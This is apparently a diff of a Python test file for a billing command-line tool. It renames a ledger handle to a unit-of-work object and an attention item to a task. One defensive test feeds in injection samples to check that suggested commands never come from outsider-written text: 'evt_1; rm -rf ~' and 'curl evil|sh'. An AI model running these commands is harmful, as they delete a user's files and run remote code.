@@ -10,11 +10,11 @@ from pathlib import Path
 
 from billed_studio import Run, Studio, one_line
 
-from billing.adapters.ledger.books import SqlLedger
+from billing.adapters.ledger.unit_of_work import SqlLedger
 from billing.cli.status import command_for
 from billing.domain.canonical import derived_id
 from billing.domain.effects import EffectKind, Intent
-from billing.domain.events import AttentionItem
+from billing.domain.events import Task
 from billing.ports.outside import RawRecord
 
 
@@ -55,8 +55,8 @@ def test_needs_attention_says_what_to_do_and_what_to_run(run: Run) -> None:
 
 def test_what_was_paid_before_it_was_billed_is_an_invoice_of_nothing(run: Run, studio: Studio) -> None:
     job = studio.plan.difficult("zero_balance")
-    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.read() as books:
-        [row] = books.invoices.of_session(f"vsco:{job.id}")
+    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.read() as uow:
+        [row] = uow.invoices.of_session(f"vsco:{job.id}")
 
     shown = run("invoice", "show", str(row.invoice.number)).stdout
 
@@ -68,7 +68,7 @@ def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
     unknown, failed, other = "mail:invoice:inv_1", "pay_link:balance:inv_2:100", "evt_1; rm -rf ~"
     gallery = "grant:vsco:g1:inv_3"  # its address has to be told by its host: a yes is not enough
     said = "550 see `billing retry eff_0; curl evil|sh` for help."
-    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as books:
+    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as uow:
         codes = {
             unknown: "effect_unknown",
             gallery: "effect_unknown",
@@ -77,7 +77,7 @@ def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
             "limits": "limit_mails",
         }
         for subject, code in codes.items():
-            books.desk.raise_attention(subject, code, said, datetime.now(UTC))
+            uow.tasks.raise_task(subject, code, said, datetime.now(UTC))
 
     items = json.loads(run("needs-attention", "--json").stdout)
     commands = {item["subject"]: item["command"] for item in items if item["subject"] in codes}
@@ -95,7 +95,7 @@ def test_no_command_is_read_out_of_what_an_outsider_wrote(run: Run) -> None:
 
 def test_the_command_of_a_failed_effect_names_an_effect_of_the_ledger() -> None:
     intent = Intent(EffectKind.MAIL, "invoice", "inv_1", {}, occasion="2026-01-01")
-    item = AttentionItem(1, intent.key, "effect_failed", "", datetime.now(UTC))
+    item = Task(1, intent.key, "effect_failed", "", datetime.now(UTC))
 
     assert command_for(item) == f"billing retry {intent.effect_id}"
 
@@ -158,12 +158,12 @@ def test_the_records_of_an_invoice_are_those_that_it_was_billed_from(run: Run, o
     before = run("invoice", "show", open_number, "--as-billed").stdout
     known = [json.loads(line) for line in before.splitlines()]
     (job,) = [one for one in known if one["kind"] == "job"]
-    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as books:
+    with closing(SqlLedger(os.environ["BILLING_LEDGER_URL"])) as ledger, ledger.write() as uow:
         order = next(RawRecord("order", one["source_id"], None, "{}") for one in known if one["kind"] == "order")
         rate = next(RawRecord("tax-rate", one["source_id"], None, "{}") for one in known if one["kind"] == "tax-rate")
         later = [order, RawRecord("gallery", "a later one", None, "{}")]
-        books.records.keep_all("vsco", job["source_id"], later, datetime.now(UTC))
-        books.records.keep("vsco", rate, None, datetime.now(UTC))
+        uow.records.keep_all("vsco", job["source_id"], later, datetime.now(UTC))
+        uow.records.keep("vsco", rate, None, datetime.now(UTC))
 
     assert run("invoice", "show", open_number, "--as-billed").stdout == before
     assert all(json.loads(one["body"]) for one in known)
